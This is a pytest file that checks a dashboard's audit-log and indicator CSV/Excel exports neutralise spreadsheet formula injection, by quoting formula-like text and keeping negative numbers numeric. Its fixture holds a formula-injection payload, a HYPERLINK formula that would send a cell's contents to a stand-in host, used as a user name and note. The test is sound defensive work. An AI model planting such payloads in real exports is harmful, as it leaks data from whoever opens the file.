"""Issue 17 row 9 by crafted requests: a user named like a spreadsheet formula
signs in, and the 审计日志 CSV export shows the name as text; the 指标 CSV and
Excel exports do the same for a stored text cell and keep negative numbers
numbers."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator

import openpyxl
import pytest
from flask.testing import FlaskClient

from config.settings import load_settings
from dashboard.app import create_app
from db import models
from db.session import make_engine, make_session_factory, transaction
from db.users import create_user
from indicators.exports import FORMULA_STARTS
from tests.helpers import ORIGIN, sign_in

LINK = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'
PASSWORD = "公式-注入-测试-口令-2026"
ADMIN = ("exp_admin", "导出-管理员-口令-2026")


@pytest.fixture(scope="module")
def factory(module_ready_url: str) -> Iterator[object]:
    engine = make_engine(module_ready_url)
    factory = make_session_factory(engine)
    with transaction(factory) as session:
        create_user(session, LINK, PASSWORD, "viewer", "公式用户")
        create_user(session, ADMIN[0], ADMIN[1], "admin", "管理员")
        # a figure and a text that reached the database (whatever path let it in)
        session.add(
            models.Observation(
                indicator_id="gdp",
                region_code="510100",
                period="2024",
                layer="reported",
                value=-12.5,
                unit="@SUM(A1:A9)",
                note=LINK,
            )
        )
    yield factory
    engine.dispose()


def client_for(factory: object, who: tuple[str, str]) -> FlaskClient:
    client = create_app(load_settings({}), factory).server.test_client()
    assert sign_in(client, *who).status_code == 302
    return client


def download(client: FlaskClient, body: dict, output: str) -> dict:
    response = client.post("/_dash-update-component", json=body, headers=ORIGIN)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_json()["response"][output.split(".")[0]]["data"]


def _safe(cell: str) -> bool:
    return not cell.startswith(FORMULA_STARTS)


def test_exp001_a_formula_user_name_is_text_in_the_audit_csv(factory) -> None:
    client_for(factory, (LINK, PASSWORD))  # its sign-in is logged under that name
    admin = client_for(factory, ADMIN)
    body = {
        "output": "audit-download.data",
        "outputs": {"id": "audit-download", "property": "data"},
        "inputs": [{"id": "audit-export", "property": "n_clicks", "value": 1}],
        "state": [
            {"id": "audit-action", "property": "value", "value": None},
            {"id": "audit-actor", "property": "value", "value": None},
            {"id": "audit-dates", "property": "start_date", "value": None},
            {"id": "audit-dates", "property": "end_date", "value": None},
            {"id": "url", "property": "search", "value": ""},
        ],
        "changedPropIds": ["audit-export.n_clicks"],
    }
    data = download(admin, body, "audit-download.data")
    rows = list(csv.reader(io.StringIO(data["content"].lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells  # the actor column of its sign-in
    assert all(_safe(cell) for cell in cells), [c for c in cells if not _safe(c)]


def _indicator_export(factory: object, button: str) -> dict:
    admin = client_for(factory, ADMIN)
    body = {
        "output": "ind-download.data",
        "outputs": {"id": "ind-download", "property": "data"},
        "inputs": [
            {"id": "ind-download-csv", "property": "n_clicks", "value": None},
            {"id": "ind-download-xlsx", "property": "n_clicks", "value": None},
        ],
        "state": [
            {"id": "ind-indicator", "property": "value", "value": "gdp"},
            {"id": "url", "property": "search", "value": ""},
        ],
        "changedPropIds": [f"{button}.n_clicks"],
    }
    clicked = 0 if button == "ind-download-csv" else 1
    body["inputs"][clicked]["value"] = 1
    return download(admin, body, "ind-download.data")


def test_exp002_the_indicator_csv_quotes_formula_text_and_keeps_negative_numbers(
    factory,
) -> None:
    data = _indicator_export(factory, "ind-download-csv")
    rows = list(csv.reader(io.StringIO(data["content"].lstrip("\ufeff"))))
    chengdu = next(r for r in rows if "'@SUM(A1:A9)" in r)
    assert "-12.5" in chengdu  # a number, not quoted
    assert all(_safe(cell) or cell == "-12.5" for row in rows for cell in row)


def test_exp003_the_indicator_workbook_has_text_not_formulas(factory) -> None:
    data = _indicator_export(factory, "ind-download-xlsx")
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(data["content"])))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula at all
    texts = [c.value for c in cells if c.data_type == "s"]
    assert "'@SUM(A1:A9)" in texts and all(_safe(text) for text in texts)
    assert -12.5 in [c.value for c in cells if c.data_type == "n"]
